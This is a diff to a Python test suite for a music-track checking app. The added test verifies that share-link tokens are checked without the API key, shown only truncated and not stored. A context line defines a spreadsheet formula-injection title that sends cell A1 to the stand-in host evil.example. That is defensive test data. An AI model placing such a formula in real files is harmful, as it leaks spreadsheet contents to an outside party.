@@ -13,6 +13,7 @@ from harness.sandbox import KEY, ORGANIZATION
 from harness.scenario import SLACK, Scenario
 
 OTHER_KEY = "oak_live_OtherCanary0123456789"
+TOKEN = "shr_9f3aCANARYe2e5Qx71"
 MISSING = "mtrack_not0there"
 HOSTILE_TITLE = "=HYPERLINK(\"https://evil.example/\"&A1,\"Late, Night\")"
 
@@ -218,6 +219,29 @@ class ManyTracks(Checking):
         names = " ".join(name for _, name, _ in window.nodes())
         for secret in (OTHER_KEY, "sig="):
             self.assertNotIn(secret, names)
+
+    def test_sharesInAList_areCheckedWithoutTheKey_andTheirTokensAreKeptNowhere(self):
+        self.keys = (*self.keys, TOKEN)
+        service = self.start_service()
+        service.say(f"share {TOKEN} {ORGANIZATION}/{self.track.id}")
+        window = self.start()
+        home = self.app.home
+        self.give([f"{service.api}/v1/music/shared/{TOKEN}", self.track.id, "shr_revoked12345"])
+        window.press("Start the checks")
+        self.wait_shown("Checks", "All 3 checked", seconds=30)
+        found = json.loads(self.export("JSON", "shares.json"))
+        self.assertEqual([row["shared"] for row in found], ["resolvable", "", "not_resolvable"])
+        self.assertEqual([row["verdict"] for row in found], ["playable", "playable", "not_available"])
+        self.assertIn("Share: shr_9f3a…", self.copied("Copy ticket text: shr_9f3a…", "Share: "))
+        self.assertEqual(service.counts["keyOnShares"], 0)
+        self.assertCloses()
+        self.assertEqual([row.get("share") for row in self.kept()], [True, None, True])
+
+        window = self.start(home=home)
+        window.press("Access checks", "toggle button")
+        self.wait_shown("Whose access", "No key: by the share shr_9f3a…")
+        self.wait_shown("Check", "cannot be checked again")
+        self.assertEqual(service.counts["shareRequests"], 2)
 
     def test_theListKeepsToItsRate(self):
         service = self.start_service(library=40)
